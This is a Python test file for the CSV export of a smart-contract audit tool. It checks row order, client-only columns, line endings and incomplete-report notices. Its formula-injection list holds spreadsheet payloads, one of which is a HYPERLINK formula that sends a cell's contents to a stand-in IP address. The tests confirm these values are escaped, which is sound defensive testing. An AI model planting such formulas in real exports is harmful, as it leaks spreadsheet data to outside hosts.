from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from spectr_desktop.records.findings import Texts
from spectr_desktop.records.report import Report, ReportKind
from spectr_desktop.records.run import Outcome
from spectr_desktop.report.export.csv import csv_text
from tests.report.export.report_samples import client, finding, place, report, result


def imported(made: Report) -> list[dict[str, str]]:
    """The rows as a reader of CSV in UTF-8 takes them."""
    raw = csv_text(made).encode("utf-8")
    assert raw.startswith(b"\xef\xbb\xbf")
    file = io.StringIO(raw.decode("utf-8-sig"), newline="")
    return list(csv.DictReader(file, strict=True))


def test_a_row_a_finding() -> None:
    rows = imported(report())
    assert [(row["type"], row["id"]) for row in rows] == [
        *(("finding", key) for key in ("F2", "F3", "F4", "F5", "F1", "F6")),
        ("lead", "F7"),
        ("lead", "F8"),
    ]
    assert rows[2] == {
        "type": "finding",
        "id": "F4",
        "key": "F4",
        "title": "Title 4",
        "severity": "high",
        "impact": "high",
        "likelihood": "medium",
        "scwe": "SCWE-046",
        "owasp_sc": "SC08:2026",
        "cwe": "CWE-367",
        "path": "Vault.sol",
        "start_line": "2",
        "end_line": "3",
        "symbol": "Vault.withdraw",
        "other_locations": "",
        "state": "acknowledged",
        "description": "Description 4",
        "exploit_scenario": "Scenario 4",
        "proof_of_concept": "Proof 4",
        "recommendation": "Advice 4",
        "suggested_fix": "```solidity\nfix4();\n```",
        "report_outcome": "complete",
        "report_notices": "",
        "code_found": "yes",
        "note": "",
        "sightings": "1",
        "models": "model-of-the-sighting",
        "confidence": "confidence-93",
        "recheck": "no",
    }
    lead = rows[-1]
    assert (lead["start_line"], lead["code_found"]) == ("", "no, the file was not sent")


def test_a_client_gets_fewer_columns() -> None:
    rows = imported(client())
    assert [row["id"] for row in rows] == ["C-01", "H-01", "H-02", "M-01"]
    assert not {"confidence", "models", "note", "code_found", "sightings"} & rows[0].keys()


def test_lines_end_as_the_standard_says() -> None:
    text = csv_text(client([finding(1), finding(2)]))
    assert text.endswith("\r\n")
    assert text.split("\r\n", 1)[0].startswith("\ufefftype,id,key,")


def test_other_places_stand_in_one_cell() -> None:
    one = replace(finding(), locations=(place(), place(line=9), place(path="b.sol", line=4)))
    (row,) = imported(report(found=[one]))
    assert row["other_locations"] == "Vault.sol:9–10\nb.sol:4–5"


@pytest.mark.parametrize("kind", list(ReportKind))
@pytest.mark.parametrize("found", [[], [finding()]])
def test_what_is_not_complete_says_so_in_each_row(kind: ReportKind, found: list[object]) -> None:
    rows = imported(report(kind, found, result(Outcome.STOPPED)))  # type: ignore[arg-type]
    assert len(rows) == 1
    assert rows[0]["type"] == ("finding" if found else "notice")
    assert rows[0]["report_outcome"] == "stopped"
    assert rows[0]["report_notices"].startswith("Not complete.")


def test_a_complete_report_of_nothing_is_a_head_line() -> None:
    assert imported(report(found=[])) == []
    assert csv_text(report(found=[])).count("\r\n") == 1


_FORMULAS = [
    '=HYPERLINK("http://192.0.2.1/?"&A1)',
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\ufeff=1",
    "＝1",  # noqa: RUF001  # a spreadsheet may read the wide sign as the narrow one
]


@pytest.mark.parametrize("formula", _FORMULAS)
def test_no_cell_is_a_formula(formula: str) -> None:
    one = replace(
        finding(), texts=Texts(*[formula] * 6), note=formula, locations=(place(path=formula),)
    )
    (row,) = imported(report(found=[one]))
    shown = row["title"]
    assert shown.startswith(("'", "⟦"))
    assert {row[name] for name in ("title", "description", "suggested_fix", "note", "path")} == {
        shown
    }


@given(st.text(st.characters(codec=None), max_size=40))
@settings(max_examples=200, deadline=None)
def test_any_words_come_back(text: str) -> None:
    one = replace(finding(), texts=Texts("Title", text), note=text)
    for row in imported(report(found=[one, finding(2)])):
        assert None not in row
        assert row["title"].startswith("Title")
        if row["key"] == "F1":
            shown = row["description"]
            assert not shown.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
            letters = "".join(sign for sign in text if sign.isascii() and sign.isalnum())
            assert all(sign in shown for sign in letters)
